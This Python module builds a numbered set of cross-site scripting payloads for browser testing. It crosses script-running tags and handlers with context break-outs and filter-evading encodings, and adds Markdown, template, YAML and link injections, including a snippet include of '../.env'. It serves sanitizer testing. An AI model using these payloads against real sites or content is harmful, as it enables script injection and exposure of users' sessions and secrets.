"""Texts that would run in a reader's browser if any page, feed or script let them: for tests and bench alike.

Made here, from three lists: a way in (VECTORS), a way out of where the text stands (CONTEXTS), and a way past
a filter (DISGUISES). `Z(n)` tells the browser's test that number n ran; `y:` is an address that is not there.
"""

from __future__ import annotations

import html
from collections.abc import Callable, Iterator
from itertools import product
from urllib.parse import quote

LONGEST = 180
"""Characters: a title may have 200."""

VECTORS: tuple[str, ...] = (
    "<script>Z()</script>",
    "<script src=data:,Z()></script>",
    "<svg><script>Z()</script>",
    "<img src=y: onerror=Z()>",
    '<img/src="y:"/onerror=Z()>',
    "<svg onload=Z()>",
    "<svg/onload=Z()//",
    "<body onload=Z()>",
    "<input autofocus onfocus=Z()>",
    "<select autofocus onfocus=Z()>",
    "<textarea autofocus onfocus=Z()>",
    "<details open ontoggle=Z()>",
    "<video src=y: onerror=Z()>",
    "<audio src=y: onerror=Z()>",
    "<video><source src=y: onerror=Z()>",
    "<object data=y: onerror=Z()>",
    "<object data=javascript:Z()>",
    "<embed src=javascript:Z()>",
    "<iframe src=javascript:Z()>",
    "<iframe srcdoc='<script>parent.Z()</script>'>",
    "<a href=javascript:Z()>x</a>",
    "<a href='java\tscript:Z()'>x</a>",
    "<a href=&#106;avascript:Z()>x</a>",
    "<a href=vbscript:Z()>x</a>",
    "<a href=data:text/html,<script>Z()</script>>x</a>",
    "<form action=javascript:Z()><button>x",
    "<button form=x formaction=javascript:Z()>x",
    "<marquee onstart=Z()>",
    "<p style=animation:x onanimationstart=Z()>",
    "<p onpointerenter=Z() onclick=Z()>x",
    "<svg><animate onbegin=Z() attributeName=x>",
    "<svg><set onbegin=Z() attributeName=x>",
    "<svg><a xlink:href=javascript:Z()><text>x",
    "<math href=javascript:Z()>x",
    "<base href=javascript:Z()//>",
    "<meta http-equiv=refresh content='0;url=javascript:Z()'>",
    "<link rel=stylesheet href=y: onerror=Z()>",
    "<style onload=Z()></style>",
    "<template><img src=y: onerror=Z()></template>",
    "<noscript><p title='</noscript><img src=y: onerror=Z()>'>",
    "<math><mtext><mglyph><style><!--</style><img title='--><img src=y: onerror=Z()>'>",
    "<svg></p><style><a id='</style><img src=y: onerror=Z()>'>",
    "<![CDATA[><img src=y: onerror=Z()>]]>",
    "<xmp><p title='</xmp><img src=y: onerror=Z()>'>",
    "<z-z autofocus tabindex=1 onfocus=Z()>",
    "<x contenteditable autofocus onfocus=Z()>",
)
CONTEXTS: tuple[str, ...] = (
    "{}",
    '">{}',
    "'>{}",
    "--></title></textarea></style></script>{}",
    "]]>{}",
    "</p></pre></code>{}",
    "@@CONTENT@@{}",
    "```\n{}\n```",
)
DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.replace("<", "<\u200b", 1).replace("on", "ON").replace("script", "ScRiPt"),
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(c)};" if c in "<>\"'=:()" else c for c in text),
    lambda text: "".join(f"&#x{ord(c):x}" if c in "<>" else c for c in text),
    lambda text: quote(text, safe=" =()"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "<<").replace(" ", "\n"),
)
LINES: tuple[str, ...] = (
    # Out of an attribute without a tag of its own.
    '" autofocus onfocus=Z() x="',
    "' autofocus onfocus=Z() x='",
    "x onmouseover=Z() autofocus onfocus=Z()",
    # Out of a string of a script, or of JSON in a script.
    '";Z();//',
    "';Z();//",
    "`;Z();//",
    "${Z()}",
    "\\';Z();//",
    "</script><script>Z()</script>",
    "<!--<script>Z()",
    "\u2028Z()\u2028",
    # By what the site itself understands: Markdown, its extensions, templates, slots, front matter.
    "[x](javascript:Z())",
    "[x](<javascript:Z()>)",
    '![x](y: "x"onerror=Z())',
    "<javascript:Z()>",
    "[x]: javascript:Z()\n[x]",
    "x {: onclick=Z() }",
    "# x {: onmouseover=Z() }",
    '--8<-- "../.env"',
    "{{ ''.__class__ }}{{ Z() }}",
    "{% raw %}{% endraw %}<script>Z()</script>",
    "@@HEAD@@<script>Z()</script>",
    "@@TITLE@@@@DESCRIPTION@@<svg onload=Z()>",
    "---\nanswer: <script>Z()</script>\n---",
    "!!python/object/apply:os.system [Z()]",
    "=HYPERLINK(Z())",
    # By links that are made of plain addresses.
    'https://x.test/"onmouseover="Z()',
    "https://x.test/'autofocus onfocus='Z()",
    "https://x.test/<script>Z()</script>",
    "http://javascript:Z()@x.test/",
    "https://x.test/&quot;onclick=&quot;Z()",
    "javascript:Z()",
    "javascript://x.test/%0aZ()",
    "data:text/html,<script>Z()</script>",
    "jav&#x09;ascript:Z()",
    "\u202ejavascript:Z()",
)


def payloads() -> list[str]:
    """All of them, each once, numbered: `Z(17)` is in the payload at 17."""
    made = dict.fromkeys(text for text in (*LINES, *_combined()) if len(text) <= LONGEST)
    return [text.replace("Z()", f"Z({n})") for n, text in enumerate(made)]


def _combined() -> Iterator[str]:
    """Every vector plain in every context, and in each disguise in one context, which changes with both."""
    for vector, context in product(VECTORS, CONTEXTS):
        yield context.format(vector)
    for at, vector in enumerate(VECTORS):
        for turn, disguise in enumerate(DISGUISES):
            yield disguise(CONTEXTS[(at + turn) % len(CONTEXTS)].format(vector))
